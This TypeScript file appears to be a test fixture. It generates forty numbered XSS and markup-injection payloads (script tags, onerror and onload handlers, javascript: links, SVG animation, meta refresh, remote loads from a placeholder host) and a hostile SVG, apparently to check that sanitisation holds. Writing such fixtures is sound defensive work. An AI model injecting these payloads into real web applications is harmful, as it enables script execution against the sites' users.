/** Address that a live vector would call or load; it has no server. */
const ELSEWHERE = 'https://elsewhere.example';

/**
 * Forty ways in which a text could become part of the page. `№` is the vector's number, in the visible text and in the
 * code that would run. `§` is another host.
 */
const TEMPLATES: readonly string[] = [
  '<script>alert(№)</script>',
  '<script src="§/№.js"></script>',
  '"><script>alert(№)</script>',
  "';alert(№);//",
  '</title><script>alert(№)</script>',
  '</textarea><img src=x onerror=alert(№)>',
  '<img src=x onerror=alert(№)>',
  '<img src="§/№.png">',
  '<img/src=x/onerror=alert(№)>',
  '<IMG SRC=x OnErRoR=alert(№)>',
  '"><img src=x onerror="alert(№)">',
  "' onmouseover='alert(№)",
  '" autofocus onfocus="alert(№)',
  '<svg onload=alert(№)>',
  '<svg><script>alert(№)</script></svg>',
  '<svg><animate onbegin=alert(№) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(№)"><text y="9">№</text></a></svg>',
  '<svg><use href="§/№.svg#x"></use></svg>',
  '<svg><image href="§/№.png"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(№)</script>"></iframe></foreignObject></svg>',
  '<math><mtext><style><img src=x onerror=alert(№)></style></mtext></math>',
  '<iframe src="javascript:alert(№)"></iframe>',
  '<iframe src="§/№"></iframe>',
  '<iframe srcdoc="<script>parent.alert(№)</script>"></iframe>',
  '<object data="javascript:alert(№)"></object>',
  '<embed src="§/№.swf">',
  '<a href="javascript:alert(№)">№</a>',
  '<a href="§/№" target=_blank>№</a>',
  '[№](javascript:alert(№))',
  '![№](§/№.png)',
  '<body onload=alert(№)>',
  '<details open ontoggle=alert(№)>',
  '<video src=x onerror=alert(№)></video>',
  '<link rel=stylesheet href="§/№.css">',
  '<style>@import "§/№.css";</style>',
  '<div style="background:url(§/№.png)">№</div>',
  '<meta http-equiv=refresh content="0;url=§/№">',
  '<base href="§/№/">',
  '<form action="§/№"><input name=q autofocus onfocus=alert(№)></form>',
  '&lt;img src=x onerror=alert(№)&gt; &#60;script&#62;alert(№)&#60;/script&#62; {{constructor.constructor("alert(№)")()}}',
];

/** The same forty, each with its number, `v1` to `v40`, to be found in a text. */
export const MARKUP_VECTORS: readonly string[] = TEMPLATES.map(
  (template, i) => `v${i + 1} ${template.replaceAll('№', String(i + 1)).replaceAll('§', ELSEWHERE)}`,
);

/** All of them in one text. */
export const ALL_MARKUP = MARKUP_VECTORS.join(' ');

/** As many of them as the database has room for in a name. */
export const NAME_MARKUP = [6, 11, 13, 14, 0, 26].map((at) => MARKUP_VECTORS[at]).join(' ');

/** A drawing that holds them all, and what only a drawing can hold. */
export const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 90 90" onload="alert(41)">
<rect width="40" height="40" fill="url(${ELSEWHERE}/42.svg#x)" onclick="alert(42)" style="fill:url(${ELSEWHERE}/42)"/>
<filter id="f"><feImage href="${ELSEWHERE}/43.png"/></filter><rect width="9" height="9" filter="url(#f)"/>
<a href="javascript:alert(44)"><text y="20">44</text></a>
<set attributeName="href" to="javascript:alert(45)"/><animate attributeName="href" values="javascript:alert(46)"/>
<use href="data:image/svg+xml,<svg onload=alert(47)>"/><style>*{background:url(${ELSEWHERE}/48)}</style>
<handler type="text/javascript">alert(49)</handler><text y="60">drawn</text>
${ALL_MARKUP}</svg>`;
